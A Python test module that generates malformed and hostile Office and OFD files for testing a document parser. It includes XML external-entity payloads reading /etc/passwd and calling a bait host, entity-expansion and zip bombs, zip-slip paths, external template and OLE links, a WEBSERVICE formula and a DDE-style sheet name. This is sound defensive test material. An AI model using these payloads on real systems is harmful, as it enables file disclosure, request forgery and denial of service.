"""Word, Excel and OFD files that blow up, point outside, or lie about themselves."""

from __future__ import annotations

import struct

from tests.hostile.packages import HEAD, REL, SOUND, S, W, book, ofd, paragraph, rels, word, zipped
from tests.hostile.samples import EITHER, sample
from tests.support.effort import FULL

LAUGHS = "<!DOCTYPE w [" + '<!ENTITY a0 "haha">' + "".join(
    f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10)
) + "]>"  # fmt: skip


def outside(bait: str) -> str:
    return (
        f'<!DOCTYPE w [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY h SYSTEM "{bait}/entity">'
        f'<!ENTITY % p SYSTEM "{bait}/parameter"> %p;]>'
    )


@sample("笑.docx", "损坏")
def laughing_word(_: str) -> bytes:
    return zipped(word(paragraph("&a9;"), doctype=LAUGHS))


@sample("笑.xlsx", "损坏")
def laughing_sheet(_: str) -> bytes:
    return zipped(book('<row r="1"><c r="A1" t="inlineStr"><is><t>指标&a9;</t></is></c></row>', doctype=LAUGHS))


@sample("笑.ofd", "损坏")
def laughing_page(_: str) -> bytes:
    parts = ofd()
    page = "Doc_0/Pages/Page_0/Content.xml"
    parts[page] = parts[page].replace(b"?>\n", b"?>\n" + LAUGHS.encode(), 1).replace("项目".encode(), b"&a9;", 1)
    return zipped(parts)


@sample("外部实体.docx", "损坏")
def reaching_word(bait: str) -> bytes:
    return zipped(word(paragraph("&f;&h;"), doctype=outside(bait)))


@sample("外部实体.xlsx", "损坏")
def reaching_sheet(bait: str) -> bytes:
    return zipped(
        book('<row r="1"><c r="A1" t="inlineStr"><is><t>指标&f;&h;</t></is></c></row>', doctype=outside(bait))
    )


@sample("外部实体.ofd", "损坏")
def reaching_page(bait: str) -> bytes:
    parts = ofd()
    parts["OFD.xml"] = parts["OFD.xml"].replace(b"?>\n", b"?>\n" + outside(bait).encode(), 1)
    page = "Doc_0/Pages/Page_0/Content.xml"
    parts[page] = (
        parts[page].replace(b"?>\n", b"?>\n" + outside(bait).encode(), 1).replace("项目".encode(), b"&f;&h;", 1)
    )
    return zipped(parts)


@sample("二次展开.docx", EITHER)
def quadratic_blowup(_: str) -> bytes:
    return zipped(word(paragraph("&a;" * 20_000), doctype=f'<!DOCTYPE w [<!ENTITY a "{"长" * 20_000}">]>'))


@sample("外部关系.docx")
def external_relations(bait: str) -> bytes:
    parts = word('<w:p><w:hyperlink r:id="x1"><w:r><w:t>链接</w:t></w:r></w:hyperlink></w:p><w:altChunk r:id="x2"/>')
    more = "".join(
        f'<Relationship Id="x{i}" Type="{REL}/{kind}" Target="{target}" TargetMode="External"/>'
        for i, (kind, target) in enumerate(
            [
                ("hyperlink", f"{bait}/link"),
                ("aFChunk", f"{bait}/chunk.docx"),
                ("attachedTemplate", f"{bait}/evil.dotm"),
                ("image", f"{bait}/pixel.png"),
                ("image", r"\\127.0.0.1\share\pixel.png"),
                ("styles", "file:///etc/passwd"),
                ("oleObject", f"{bait}/x.bin"),
            ],
            1,
        )
    )
    parts["word/_rels/document.xml.rels"] = rels(("styles", "../../../../etc/passwd"), more=more)
    return zipped(parts)


@sample("外部工作簿.xlsx")
def external_books(bait: str) -> bytes:
    parts = book(
        f'<row r="1"><c r="A1"><f>WEBSERVICE("{bait}/f")</f><v>5</v></c><c r="B1" t="inlineStr"><is><t>指标</t></is></c></row>'
    )
    more = f'<Relationship Id="rId9" Type="{REL}/externalLinkPath" Target="{bait}/other.xlsx" TargetMode="External"/>'
    parts["xl/_rels/workbook.xml.rels"] = rels(
        ("worksheet", "worksheets/sheet1.xml"), ("externalLink", "externalLinks/externalLink1.xml")
    )
    parts["xl/externalLinks/externalLink1.xml"] = (
        f'{HEAD}<externalLink xmlns="{S}" xmlns:r="{REL}"><externalBook r:id="rId9"/></externalLink>'.encode()
    )
    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = rels(more=more)
    parts["xl/connections.xml"] = (
        f'{HEAD}<connections xmlns="{S}"><connection id="1" type="4"><webPr url="{bait}/c"/></connection></connections>'.encode()
    )
    return zipped(parts)


@sample("宏.docm")
def macros(_: str) -> bytes:
    parts = word()
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 8
    parts["word/_rels/document.xml.rels"] = rels(("vbaProject", "vbaProject.bin"))
    return zipped(parts)


@sample("深表.docx", "XML")
def deep_tables(_: str) -> bytes:
    return zipped(word("<w:tbl><w:tr><w:tc>" * 5000 + "</w:tc></w:tr></w:tbl>" * 5000))


@sample("深框.docx")
def nested_boxes(_: str) -> bytes:
    return zipped(word("<w:p><w:r><w:txbxContent>" * 70 + paragraph("底") + "</w:txbxContent></w:r></w:p>" * 70))


@sample("宽表.docx", EITHER)
def wide_table(_: str) -> bytes:
    return zipped(
        word(
            "<w:tbl><w:tr>"
            + "<w:tc><w:p><w:r><w:t>1</w:t></w:r></w:p></w:tc>" * (60_000 if FULL else 1_000)
            + "</w:tr></w:tbl>"
        )
    )


@sample("合并爆炸.docx", EITHER)
def spanning_cells(_: str) -> bytes:
    row = f'<w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr>{paragraph("5项")}</w:tc></w:tr>'
    return zipped(word("<w:tbl>" + row * 200 + "</w:tbl>"))


@sample("表列爆炸.docx", EITHER)
def skipped_columns(_: str) -> bytes:
    row = f'<w:tr><w:trPr><w:gridBefore w:val="2000000000"/><w:gridAfter w:val="-5"/></w:trPr><w:tc>{paragraph("5项")}</w:tc></w:tr>'
    return zipped(word("<w:tbl>" + row * 12 + "</w:tbl>"))


@sample("自指.docx", EITHER)
def styles_and_parts_in_circles(_: str) -> bytes:
    parts = word(
        '<w:p><w:pPr><w:pStyle w:val="a"/><w:numPr><w:ilvl w:val="999"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>圈</w:t></w:r></w:p>'
    )
    parts["word/_rels/document.xml.rels"] = rels(
        ("styles", "styles.xml"),
        ("numbering", "numbering.xml"),
        ("footnotes", "document.xml"),
        ("header", "document.xml"),
    )
    parts["word/styles.xml"] = (
        f'<w:styles xmlns:w="{W}"><w:style w:styleId="a"><w:basedOn w:val="b"/></w:style>'
        '<w:style w:styleId="b"><w:basedOn w:val="a"/></w:style></w:styles>'
    ).encode()
    parts["word/numbering.xml"] = (
        f'<w:numbering xmlns:w="{W}"><w:abstractNum w:abstractNumId="0"><w:numStyleLink w:val="a"/><w:lvl w:ilvl="0"><w:start w:val="99999999999999999999"/>'
        f'<w:numFmt w:val="chineseCounting"/><w:lvlText w:val="%1%1%1%9"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>'
    ).encode()
    return zipped(parts)


@sample("脚注圈.docx")
def note_in_itself(_: str) -> bytes:
    parts = word('<w:p><w:r><w:t>正文</w:t><w:footnoteReference w:id="2"/></w:r></w:p>')
    parts["word/_rels/document.xml.rels"] = rels(("footnotes", "footnotes.xml"))
    note = '<w:footnote w:id="2"><w:p><w:r><w:t>注</w:t><w:footnoteReference w:id="2"/></w:r></w:p></w:footnote>'
    parts["word/footnotes.xml"] = f'<w:footnotes xmlns:w="{W}">{note}</w:footnotes>'.encode()
    return zipped(parts)


@sample("百万行.xlsx", EITHER)
def a_million_rows(_: str) -> bytes:
    return zipped(
        book("".join(f'<row r="{i}"><c r="A{i}"><v>{i}</v></c></row>' for i in range(1, 1_000_001 if FULL else 3_001)))
    )


@sample("百万空行.xlsx")
def a_million_blank_rows(_: str) -> bytes:
    rows = '<row r="1"><c r="A1" t="inlineStr"><is><t>指标</t></is></c></row><row r="1048576"><c r="A1048576"><v>5</v></c></row>'
    return zipped(book(rows + '<row ht="15"/>' * 1_000_000))


@sample("十万列.xlsx", EITHER)
def a_wide_row(_: str) -> bytes:
    return zipped(book('<row r="1">' + "<c><v>5</v></c>" * (100_000 if FULL else 2_000) + "</row>"))


@sample("远角.xlsx")
def far_corner(_: str) -> bytes:
    return zipped(
        book(
            '<row r="1"><c r="A1" t="inlineStr"><is><t>指标</t></is></c></row><row r="1048576"><c r="XFD1048576"><v>5</v></c></row>'
        )
    )


@sample("出界.xlsx", EITHER)
def beyond_the_corner(_: str) -> bytes:
    return zipped(
        book(
            '<row r="99999999999"><c r="ZZZZZZ99999999999"><v>5</v></c></row><row r="-1"><c r="A-1"><v>5</v></c></row>'
        )
    )


@sample("合并爆炸.xlsx", EITHER)
def merged_over_all(_: str) -> bytes:
    areas = "".join(f'<mergeCell ref="A{i}:XFD{i + 500_000}"/>' for i in range(1, 3000))
    return zipped(book(None, f"<mergeCells>{areas}</mergeCells>"))


@sample("大公式.xlsx")
def long_formula(_: str) -> bytes:
    formula = "SUM(" * 5000 + "1" + ")" * 5000
    return zipped(
        book(f'<row r="1"><c r="A1" t="inlineStr"><is><t>指标</t></is></c><c r="B1"><f>{formula}</f></c></row>')
    )


@sample("怪数.xlsx", EITHER)
def odd_numbers(_: str) -> bytes:
    values = [
        "1e308",
        "1e999",
        "-1e999",
        "nan",
        "inf",
        "1e-400",
        "9" * 5000,
        "0x10",
        "1_000",
        "",
        "٣",
        "1.7976931348623157e+308",
    ]
    styles = f'<styleSheet xmlns="{S}"><numFmts><numFmt numFmtId="170" formatCode="yyyy&quot;年&quot;"/><numFmt numFmtId="171" formatCode="0.{"0" * 5000}"/></numFmts><cellXfs><xf/><xf numFmtId="170"/><xf numFmtId="171"/></cellXfs></styleSheet>'
    row = "".join(f'<row><c s="{s}"><v>{v}</v></c></row>' for v in values for s in (0, 1, 2, 7))
    parts = book(
        '<row><c t="inlineStr"><is><t>指标</t></is></c></row>'
        + row
        + '<row><c t="s"><v>999999</v></c><c t="zz"><v>5</v></c><c t="b"><v>x</v></c><c t="d"><v>0000-99-99</v></c></row>'
    )
    parts["xl/styles.xml"] = styles.encode()
    parts["xl/_rels/workbook.xml.rels"] = rels(("worksheet", "worksheets/sheet1.xml"), ("styles", "styles.xml"))
    return zipped(parts)


@sample("深层.xlsx", EITHER)
def deep_sheet(_: str) -> bytes:
    return zipped(
        book('<row r="1"><c r="A1" t="inlineStr"><is>' + "<r>" * 3000 + "<t>x</t>" + "</r>" * 3000 + "</is></c></row>")
    )


@sample("名.xlsx")
def spiteful_sheet_name(_: str) -> bytes:
    parts = book()
    name = "=cmd|A1&lt;script&gt;&#x202E;" + "长" * 300
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace("绩效表".encode(), name.encode())
    return zipped(parts)


@sample("共享串.xlsx", EITHER)
def shared_strings(_: str) -> bytes:
    parts = book("".join('<row><c t="s"><v>0</v></c><c t="s"><v>1</v></c></row>' for _ in range(3)))
    parts["xl/sharedStrings.xml"] = (
        f'<sst xmlns="{S}" count="2"><si><t>{"指标5项，" * 6000}</t></si><si><t>5</t></si></sst>'.encode()
    )
    parts["xl/_rels/workbook.xml.rels"] = rels(
        ("worksheet", "worksheets/sheet1.xml"), ("sharedStrings", "sharedStrings.xml")
    )
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>", f'<Override PartName="/xl/sharedStrings.xml" ContentType="{kind}"/></Types>'.encode()
    )
    return zipped(parts)


@sample("炸弹.docx", "压缩炸弹")
def flat_bomb(_: str) -> bytes:
    return zipped({**word(), "word/media/image1.bin": b"\0" * (64 << 20)})


@sample("万件.docx", "压缩炸弹")
def many_members(_: str) -> bytes:
    return zipped({**word(), **{f"word/media/{i}": b"" for i in range(20_001)}}, stored=True)


@sample("谎报.docx", EITHER)
def lying_sizes(_: str) -> bytes:
    """The directory says that the main part is a byte long."""
    raw = bytearray(zipped({**word(), "word/media/a.xml": b" " * (4 << 20)}))
    at = raw.rfind(b"PK\x01\x02")
    while at >= 0:
        raw[at + 24 : at + 28] = struct.pack("<L", 1)
        at = raw.rfind(b"PK\x01\x02", 0, at)
    return bytes(raw)


@sample("叠.docx", EITHER)
def overlapping_members(_: str) -> bytes:
    """Every entry of the directory points to the same bytes."""
    raw = bytearray(zipped(word()))
    at = raw.find(b"PK\x01\x02")
    while at >= 0:
        raw[at + 42 : at + 46] = struct.pack("<L", 0)
        at = raw.find(b"PK\x01\x02", at + 4)
    return bytes(raw)


@sample("重名.docx", EITHER)
def twice_the_main_part(_: str) -> bytes:
    raw = zipped({**word(), "word/documenu.xml": word(paragraph("第二份"))["word/document.xml"]})
    return raw.replace(b"word/documenu.xml", b"word/document.xml")


@sample("爬出.docx")
def members_that_lead_out(_: str) -> bytes:
    return zipped(
        {
            **word(),
            "../../../../tmp/docaudit-escaped": b"x",
            "/etc/docaudit-escaped": b"x",
            "C:\\docaudit-escaped": b"x",
        }
    )


@sample("加密.docx", "密码")
def locked_members(_: str) -> bytes:
    raw = bytearray(zipped(word()))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = raw.find(mark)
        while at >= 0:
            raw[at + offset] |= 1
            at = raw.find(mark, at + 4)
    return bytes(raw)


@sample("加密.xlsx", "密码")
def locked_container(_: str) -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + "EncryptedPackage\0".encode("utf-16-le")


@sample("怪法.docx", EITHER)
def odd_compression(_: str) -> bytes:
    raw = bytearray(zipped(word()))
    for mark, offset in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        at = raw.find(mark)
        while at >= 0:
            raw[at + offset : at + offset + 2] = struct.pack("<H", 99)
            at = raw.find(mark, at + 4)
    return bytes(raw)


@sample("嵌.docx")
def embedded_things(_: str) -> bytes:
    parts = word(
        '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" ProgID="Package"/></w:object></w:r></w:p>'
    )
    parts["word/embeddings/oleObject1.bin"] = b"MZ" + bytes(500)
    parts["word/embeddings/inner.docx"] = zipped(word())
    return zipped(parts)


@sample("页圈.ofd", EITHER)
def drawings_in_circles(_: str) -> bytes:
    parts = ofd()
    name = "Doc_0/PublicRes.xml"
    use = "".join(f'<ofd:CompositeObject ID="{i}" ResourceID="{7 + i % 2}"/>' for i in range(10))
    units = "".join(
        f'<ofd:CompositeGraphicUnit ID="{i}"><ofd:Content>{use}</ofd:Content></ofd:CompositeGraphicUnit>'
        for i in (7, 8)
    )
    parts[name] = parts[name].replace(b"<ofd:CompositeGraphicUnits>", b"<ofd:CompositeGraphicUnits>" + units.encode())
    page = "Doc_0/Pages/Page_0/Content.xml"
    parts[page] = parts[page].replace(b'Type="Body">', b'Type="Body">' + use.encode(), 1)
    return zipped(parts)


@sample("偏移炸弹.ofd", EITHER)
def bombs_in_offsets(_: str) -> bytes:
    parts = ofd()
    page = "Doc_0/Pages/Page_0/Content.xml"
    code = (
        '<ofd:TextObject ID="9" Boundary="0 0 1e6 1e6" Font="1" Size="1e6" CTM="nan inf 1e6 1 0 0"><ofd:TextCode X="1e6" Y="-1e6" DeltaX="'
        + "g 100000000 0.1 " * 400
        + '">指标5项</ofd:TextCode></ofd:TextObject>'
    )
    lines = (
        '<ofd:PathObject ID="9" Boundary="0 0 9 9" LineWidth="0.2"><ofd:AbbreviatedData>'
        + "M 0 0 L 1 0 M nan inf L inf nan " * 4000
        + "</ofd:AbbreviatedData></ofd:PathObject>"
    )
    parts[page] = parts[page].replace(b'Type="Body">', b'Type="Body">' + code.encode() * 20 + lines.encode() * 5, 1)
    return zipped(parts)


@sample("百页.ofd", EITHER)
def one_page_many_times(_: str) -> bytes:
    parts = ofd()
    name = "Doc_0/Document.xml"
    listed = b"".join(b'<ofd:Page ID="%d" BaseLoc="Pages/Page_0/Content.xml"/>' % i for i in range(200, 300))
    parts[name] = parts[name].replace(b"<ofd:Pages>", b"<ofd:Pages>" + listed)
    return zipped(parts)


@sample("逃.ofd", EITHER)
def pages_that_lead_out(bait: str) -> bytes:
    parts = ofd()
    name = "Doc_0/Document.xml"
    parts[name] = (
        parts[name]
        .replace(b"PublicRes.xml", b"../../../../etc/passwd")
        .replace(
            b"<ofd:Pages>",
            f'<ofd:Pages><ofd:Page ID="1" BaseLoc="file:///etc/passwd"/><ofd:Page ID="2" BaseLoc="{bait}/page.xml"/>'.encode(),
        )
    )
    return zipped(parts)


@sample("伪.docx", "不符")
def random_bytes(_: str) -> bytes:
    return bytes((i * 73 + i // 7) % 251 + 1 for i in range(5000))


@sample("半.docx", "损坏")
def cut_off(_: str) -> bytes:
    return SOUND["docx"]()[:-40]


def _zip64(count: int) -> bytes:
    """An end of directory that claims so many members."""
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    record = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, 1 << 40, 1 << 41)
    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, 30, 1)
    return b"PK\x03\x04" + bytes(26) + record + locator + end


@sample("六四.docx", EITHER)
def giant_directory(_: str) -> bytes:
    return _zip64(1 << 40)
